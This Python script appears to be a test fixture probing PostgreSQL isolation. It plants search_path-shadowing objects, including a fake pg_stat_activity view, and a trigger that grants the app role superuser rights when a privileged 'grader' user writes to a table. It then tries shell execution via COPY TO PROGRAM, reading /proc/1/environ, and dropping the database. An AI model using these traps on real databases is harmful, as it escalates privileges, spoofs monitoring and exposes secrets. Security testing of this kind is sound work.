import os

import psycopg

from honest import serve

db = psycopg.connect(os.environ["DATABASE_URL"], autocommit=True)


def attempt(name, *statements):
    try:
        for statement in statements:
            db.execute(statement)
        print(f"{name}: done", flush=True)
    except psycopg.Error:
        print(f"{name}: refused", flush=True)


# Names that come before the ones that are meant, for whoever does not say the schema.
for statement in (
    "CREATE SCHEMA grader",
    "CREATE VIEW grader.pg_stat_activity AS SELECT 1 AS pid",
    "CREATE FUNCTION public.pg_backend_pid() RETURNS int LANGUAGE sql AS 'SELECT 0'",
    "CREATE FUNCTION trap() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN ALTER ROLE app SUPERUSER; RETURN NEW; END $$",
    "CREATE TABLE accounts (id int PRIMARY KEY, balance int)",
    "CREATE TRIGGER trap BEFORE INSERT OR UPDATE OR TRUNCATE ON accounts FOR EACH STATEMENT EXECUTE FUNCTION trap()",
    "ALTER DATABASE app SET search_path = grader, public",
):
    db.execute(statement)
superuser = db.execute("SELECT rolsuper FROM pg_roles WHERE rolname = 'grader'").fetchone()[0]
print("grader is a superuser:", superuser, flush=True)
attempt("program", "COPY (SELECT 1) TO PROGRAM 'id'")
attempt("file", "SELECT pg_read_file('/proc/1/environ')")
attempt("preload", "ALTER DATABASE app SET session_preload_libraries = 'x'")
attempt("drop own database", "DROP DATABASE app")
serve()
